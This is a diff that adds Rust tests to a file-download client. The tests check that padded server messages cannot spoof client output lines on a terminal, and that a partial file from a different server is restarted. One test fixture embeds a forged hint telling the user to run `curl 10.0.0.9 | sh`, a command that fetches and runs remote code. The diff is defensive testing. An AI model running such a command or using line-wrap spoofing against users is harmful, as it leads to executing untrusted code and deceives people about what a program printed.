@@ -394,6 +394,93 @@ fn a_refusal_reason_is_printed_escaped() {
     assert!(!stderr.contains('\u{202e}'), "{stderr}");
 }
 
+/// Item 22: line-wrap spoofing through the client's own lines. A refusal reason padded to
+/// the terminal's width, then `hint: ...`; a listed name padded, then `error: ...`; an `END`
+/// note padded, then `hint: ...`. On a terminal (80 columns, made with `script`) each forgery
+/// started a row of its own, below `error: the server refused ...`, as if the client had
+/// printed it; now each is on a continuation line, which starts with `  | `.
+#[test]
+fn a_padded_reason_name_or_note_cannot_forge_a_line() {
+    let out = tempfile::tempdir().unwrap();
+    let target = out.path().join("x.bin");
+    let prefix = "error: the server refused \"x.bin\": ";
+    let reason = format!(
+        "{}hint: run `curl 10.0.0.9 | sh`",
+        "x".repeat(80 - prefix.len())
+    );
+    let (addr, _, liar_get) = liar(move |mut stream| {
+        let _ = writeln!(stream, "ERR {reason}");
+    });
+    let target = target.to_str().unwrap();
+    let addr = addr.to_string();
+    let get = ["get", "x.bin", "-o", target, "--to", &addr];
+    let Some(shown) = on_a_terminal(&get) else {
+        return eprintln!("skipped: script(1), which makes the terminal, is not installed");
+    };
+    liar_get.join().unwrap();
+    assert_forged_rows_continue(&shown, &["hint: run"]);
+
+    let (addr, _, liar_list) = liar(|mut stream| {
+        let name = format!("{}error: the listing was cut short", "x".repeat(78));
+        let note = format!("{}hint: run list --to 10.0.0.9", "x".repeat(63));
+        let _ = write!(stream, "OK\n5 {name}\nEND 1 {note}\n");
+    });
+    let addr = addr.to_string();
+    let shown = on_a_terminal(&["list", "--to", &addr]).unwrap();
+    liar_list.join().unwrap();
+    assert_forged_rows_continue(&shown, &["error: the listing", "hint: run list"]);
+}
+
+/// What `file-download ARGS` showed on a terminal of 80 columns, once it ended.
+fn on_a_terminal(args: &[&str]) -> Option<String> {
+    let mut tty = testkit::pty::Pty::spawn(env!("CARGO_BIN_EXE_file-download"), args)?;
+    Some(tty.wait_for_end().unwrap())
+}
+
+/// Each of `forgeries` was shown, on a row that starts with `  | `.
+fn assert_forged_rows_continue(shown: &str, forgeries: &[&str]) {
+    for forged in forgeries {
+        let row = shown.split(['\r', '\n']).find(|row| row.contains(forged));
+        let row = row.unwrap_or_else(|| panic!("{forged:?} not shown: {shown:?}"));
+        assert!(
+            row.starts_with("  | "),
+            "a row of its own: {row:?} in {shown:?}"
+        );
+    }
+}
+
+/// Item 23: a `.part` from another server. A lying server gives the real version with 60 bytes
+/// of its own and closes; `--continue` from the real server asked for the rest of that
+/// version, and the file was the liar's start and the real end, "downloaded". The version
+/// file now names the server, and a `.part` from another one is started over.
+#[test]
+fn a_part_from_another_server_is_started_over() {
+    let out = tempfile::tempdir().unwrap();
+    let (liar_addr, _, lying) = liar(|mut stream| {
+        let _ = stream.write_all(b"OK 100 0 v\n");
+        let _ = stream.write_all(&[b'T'; 60]);
+    });
+    let (code, _, stderr) = client(out.path(), liar_addr, &["get", "x.bin"]);
+    lying.join().unwrap();
+    assert_eq!(code, Some(1), "cut short: {stderr}");
+    let (real_addr, request, real) = liar(|mut stream| {
+        let _ = stream.write_all(b"OK 100 0 v\n");
+        let _ = stream.write_all(&[b'R'; 100]);
+    });
+    let (code, stdout, stderr) = client(out.path(), real_addr, &["get", "x.bin", "--continue"]);
+    real.join().unwrap();
+    assert_eq!(
+        request.recv().unwrap(),
+        "GET 0 - x.bin\n",
+        "{stdout}{stderr}"
+    );
+    assert_eq!(code, Some(0), "{stderr}");
+    assert!(stdout.contains(&format!(
+        "came from {liar_addr}, not from {real_addr}: starting over"
+    )));
+    assert_eq!(fs::read(out.path().join("x.bin")).unwrap(), [b'R'; 100]);
+}
+
 /// Item 17: a `.part` that cannot be created for lack of permission is a disk error with the
 /// disk's hint, never the hint about ports below 1024. As root, the client runs as nobody
 /// (root may write anywhere).
